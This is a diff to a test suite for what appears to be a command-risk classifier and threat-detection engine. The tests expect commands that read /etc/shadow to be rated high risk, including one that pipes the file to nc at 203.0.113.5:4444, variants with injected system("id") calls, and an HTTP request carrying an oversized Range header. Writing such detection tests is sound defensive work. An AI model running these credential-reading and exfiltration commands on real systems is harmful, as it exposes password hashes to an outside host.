@@ -108,6 +108,16 @@ describe('told apart by what is shown', () => {
     expect(levels(`awk -F: '{print $1":"$2}' /etc/shadow`)).toContain('high');
     expect(levels(`awk -F: '($2==""){print $1}' /etc/shadow | nc 203.0.113.5 4444`)).toContain('high');
     expect(levels(`awk -F: '($2==""){print $1}' /etc/shadow; cat /etc/shadow`)).toContain('high');
+    for (const command of [
+      `awk '{print $1}' /etc/shadow`,
+      `awk -F'~' '{print $1}' /etc/shadow`,
+      `awk -F: '{print $1} {print}' /etc/shadow`,
+      `awk -F: '1; {print $1}' /etc/shadow`,
+      `awk -F: 'system("id"){print $1}' /etc/shadow`,
+      `awk -F: '{print $1}' /etc/shadow && perl -ne print /etc/shadow`,
+    ])
+      expect(levels(command)).toContain('high');
+    expect(levels(`sudo awk -F: '$2=="" || $2=="!" {print $1}' /etc/shadow 2>/dev/null`)).toEqual([]);
   });
 
   test('a port behind the name of a host is no stream of a file', () => {
@@ -118,4 +128,11 @@ describe('told apart by what is shown', () => {
       'medium',
     );
   });
+});
+
+test('an odd header hides no other', async () => {
+  const engine = await openThreatEngine();
+  const request = 'GET / HTTP/1.1\nHost: a.example\na=b: 1\nRange: bytes=0-18446744073709551615';
+  const { findings } = await engine.methods.analyze({ text: request }, never);
+  expect(findings.map(({ ruleId }) => ruleId)).toContain('web-protocol-range');
 });
